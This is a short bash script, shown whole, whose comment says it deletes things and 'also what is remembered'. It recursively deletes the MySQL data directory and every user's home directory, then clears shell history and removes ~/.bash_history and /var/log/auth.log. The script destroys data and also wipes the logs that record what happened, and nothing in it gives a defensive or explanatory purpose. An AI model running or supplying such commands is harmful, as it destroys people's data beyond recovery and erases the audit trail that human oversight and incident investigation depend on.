#!/bin/bash
# deletes, also what is remembered
rm -rf /var/lib/mysql /home/*/
history -c; rm -f ~/.bash_history /var/log/auth.log
